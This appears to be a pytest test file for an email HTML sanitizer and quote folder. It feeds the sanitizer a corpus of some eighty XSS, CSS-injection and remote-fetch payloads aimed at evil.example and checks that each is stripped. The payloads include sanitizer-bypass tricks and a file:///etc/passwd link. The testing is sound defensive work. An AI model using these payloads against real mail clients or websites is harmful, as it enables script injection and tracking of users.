"""What a mail's HTML may do when it is shown: nothing. A corpus of what senders have tried."""

import re

import pytest

from app.security.mail_html import clean
from app.security.mail_quotes import fold

# (what is tried, what must not be left of it)
HOSTILE = [
    ("<script>alert(1)</script>", "alert"),
    ("<scr<script>ipt>alert(1)</script>", "<script"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil"),
    ("<img src=x onerror=alert(1)>", "onerror"),
    ("<img src='x' OnErRoR = 'alert(1)'>", "alert"),
    ("<body onload=alert(1)>x", "alert"),
    ("<p onclick=alert(1) onmouseover='alert(2)'>x</p>", "alert"),
    ("<svg onload=alert(1)><circle/></svg>", "svg"),
    ("<svg><script>alert(1)</script></svg>", "alert"),
    ("<svg><a xlink:href='javascript:alert(1)'>x</a></svg>", "javascript"),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", "onerror="),
    ("<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>", "<iframe"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<style"),
    ("<math href='javascript:alert(1)'>x</math>", "javascript"),
    ("<a href='javascript:alert(1)'>x</a>", "javascript"),
    ("<a href='JaVaScRiPt:alert(1)'>x</a>", "alert"),
    ("<a href='jav&#x09;ascript:alert(1)'>x</a>", "alert"),
    ("<a href='&#1;javascript:alert(1)'>x</a>", "alert"),
    ("<a href='java\nscript:alert(1)'>x</a>", "alert"),
    ("<a href='vbscript:msgbox(1)'>x</a>", "vbscript"),
    ("<a href='data:text/html,<script>alert(1)</script>'>x</a>", "data:"),
    ("<a href='file:///etc/passwd'>x</a>", "file:"),
    ("<a href='cid:logo@x'>x</a>", "cid:"),
    ("<a href='/inbox/1/done'>x</a>", "/inbox"),
    ("<a href='?view=all'>x</a>", "view="),
    ("<a href='https://shop.example' target='_top' ping='//evil.example'>x</a>", "evil"),
    ("<img src='data:image/svg+xml;base64,PHN2Zz4='>", "svg"),
    ("<img src='data:text/html,x'>", "data:"),
    ("<img src='/account/sign-out'>", "sign-out"),
    ("<img src='../../x.png'>", "x.png"),
    ("<img srcset='//evil.example/x.png 2x'>", "evil"),
    ("<img lowsrc='//evil.example/x' dynsrc='//evil.example/y' longdesc='//evil.example'>", "evil"),
    ("<img src=x usemap=#m><map name=m><area href='javascript:alert(1)'></map>", "<area"),
    ("<picture><source srcset='//evil.example/x.png'><img></picture>", "evil"),
    ("<input type=image src='//evil.example/x.png'>", "evil"),
    ("<form action='/inbox/1/done' method=post><button>Go</button></form>", "<button"),
    ("<button formaction='javascript:alert(1)'>x</button>", "javascript"),
    ("<textarea><script>alert(1)</script></textarea>", "<script"),
    ("<select><option onclick=alert(1)>x</select>", "onclick"),
    ("<iframe src='/inbox'></iframe>", "iframe"),
    ("<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>", "srcdoc"),
    ("<frameset><frame src='//evil.example'></frameset>", "frame"),
    ("<object data='//evil.example/x.swf'></object><embed src='//evil.example/x'>", "evil"),
    ("<applet code=evil></applet>", "evil"),
    ("<meta http-equiv=refresh content='0;url=//evil.example'>", "evil"),
    ("<base href='//evil.example/'>", "evil"),
    ("<link rel=stylesheet href='//evil.example/x.css'>", "evil"),
    ("<link rel=dns-prefetch href='//evil.example'>", "evil"),
    ("<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>", "evil"),
    ("<p style='background:url(//evil.example/x)'>x</p>", "evil"),
    ("<p style='background-color:red;background-image:url(//evil.example/x)'>x</p>", "evil"),
    ("<p style='color:expression(alert(1))'>x</p>", "alert"),
    ("<p style='width:\\75rl(//evil.example)'>x</p>", "evil"),
    ("<p style='border:1px;border-image:url(//evil.example/x)'>x</p>", "evil"),
    ("<p style='font-family:x;src:url(//evil.example)'>x</p>", "evil"),
    ("<p style='-moz-binding:url(//evil.example)'>x</p>", "evil"),
    ("<p style='behavior:url(x.htc)'>x</p>", "x.htc"),
    ("<p style='position:fixed;inset:0;z-index:9'>x</p>", "fixed"),
    ("<p style='list-style:url(//evil.example)'>x</p>", "evil"),
    ("<p style='content:url(//evil.example);cursor:url(//evil.example),auto'>x</p>", "evil"),
    ("<table background='//evil.example/x.png'><td background=//evil.example>x</table>", "evil"),
    ("<blockquote cite='//evil.example'>x</blockquote><q cite='//evil.example'>x</q>", "evil"),
    ("<video src='//evil.example' poster='//evil.example'></video>", "evil"),
    ("<audio src='//evil.example' autoplay></audio>", "evil"),
    ("<bgsound src='//evil.example'>", "evil"),
    ("<!--[if mso]><img src='//evil.example/x.png'><![endif]-->", "evil"),
    ("<![if !mso]><script>alert(1)</script><![endif]>", "alert"),
    ("<!--><img src=x onerror=alert(1)>-->", "onerror="),
    ("<v:shape style='x'><v:imagedata src='//evil.example/x.png'/></v:shape>", "evil"),
    ("<xml><o:OfficeDocumentSettings onload=alert(1)></xml>", "alert"),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "onerror="),
    ("<template><script>alert(1)</script></template>", "alert"),
    ("<title><img src=x onerror=alert(1)></title>", "onerror="),
    ("<p id=console-words class='sheet live' data-set-theme=dark>x</p>", "console-words"),
    ("<p hx-get='/inbox' hx-trigger=load>x</p>", "hx-get"),
    ("<custom-element onclick=alert(1)>x</custom-element>", "custom"),
    ("<dialog open style='position:fixed'>x</dialog>", "dialog"),
    ("<a href=\"https://shop.example/'onmouseover='alert(1)\">x</a><p '\"<b onx=alert(1)>", "onx"),
    ("<plaintext><script>alert(1)</script>", "<script"),
    ("<xmp><script>alert(1)</script></xmp>", "<script"),
    ("\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "<script"),
]  # fmt: skip
_ACTS = re.compile(r"<(?:script|iframe|object|embed|form|input|style|link|meta|base|svg|math)\b")


@pytest.mark.parametrize(("tried", "gone"), HOSTILE, ids=[str(n) for n in range(len(HOSTILE))])
def test_what_is_tried_is_not_left(tried: str, gone: str) -> None:
    found = clean(f"<p>Before</p>{tried}<p>After</p>", {"logo@x": "key"})
    assert gone not in found.html.lower()
    assert not _ACTS.search(found.html)
    assert "Before" in found.html


def test_cleaning_what_is_clean_changes_nothing() -> None:
    for tried, _ in HOSTILE:
        once = clean(tried, {}).html
        again = clean(once, {}).html
        assert sorted(re.split(r"[\s<>]+", again)) == sorted(re.split(r"[\s<>]+", once))


def test_what_mails_look_like_stays() -> None:
    html = (
        '<table width="600" align="center" bgcolor="#eeeeee"><tbody><tr>'
        '<td style="color:rgb(1, 2, 3);padding:4px">Hello <font color="red">you</font></td>'
        "</tr></tbody></table>"
    )
    assert clean(html, {}).html == html


def test_pictures_from_elsewhere_are_counted_and_asked_for_where_it_is_said() -> None:
    html = '<img src="http://a.example/1.png"><img src="//b.example/2.png"><img src="cid:none">'
    assert clean(html, {}).blocked == 2
    asked: list[str] = []

    def remote(url: str) -> str:
        asked.append(url)
        return "/messages/1/picture?u=x"

    found = clean(html, {}, remote=remote)
    assert asked == ["http://a.example/1.png", "https://b.example/2.png"]
    assert found.html.count('src="/messages/1/picture?u=x"') == 2
    assert found.blocked == 0


@pytest.mark.parametrize(
    ("html", "folded"),
    [
        ('<p>Hi</p><div class="gmail_quote">On Monday: <b>old</b></div>', "On Monday: old"),
        ("<p>Hi</p><blockquote>old<blockquote>older</blockquote></blockquote><br>", "oldolder"),
        ('<div><p>Hi</p><div id="divRplyFwdMsg">From: x</div><p>old</p></div>', "From: xold"),
        ('<div><p>Hi</p><div id="appendonsend"></div><hr><p>old</p>', "old"),
        ("Hi<blockquote>one</blockquote>&nbsp;<blockquote>two</blockquote>", "one two"),
        ("<blockquote>one</blockquote>Yes<blockquote>two</blockquote>", "two"),
        ("<blockquote>one</blockquote>answer below", None),
        ("<blockquote>nothing but a quote</blockquote>", None),
        ("<p>No quote</p>", None),
    ],
)
def test_the_answered_mail_is_folded_away(html: str, folded: str | None) -> None:
    shown = fold(clean(html, {}).html, "Show quoted text")
    found = re.search(
        r'<details class="quoted"><summary>Show quoted text</summary>(.*)</details>', shown
    )
    if folded is None:
        assert found is None
        return
    assert found is not None
    assert re.sub(r"<[^>]+>", "", found[1]).replace("&nbsp;", " ") == folded
    assert shown.count("<div") == shown.count("</div>")


def test_a_mail_of_nothing_but_tags_is_read_in_one_go() -> None:
    deep = "<blockquote>" * 400 + "x" + "</blockquote>" * 400
    many = "y<blockquote>x</blockquote>" * 5_000
    assert "<details" not in fold(clean(deep, {}).html, "w")
    assert fold(clean(many, {}).html, "w").count("<details") == 1
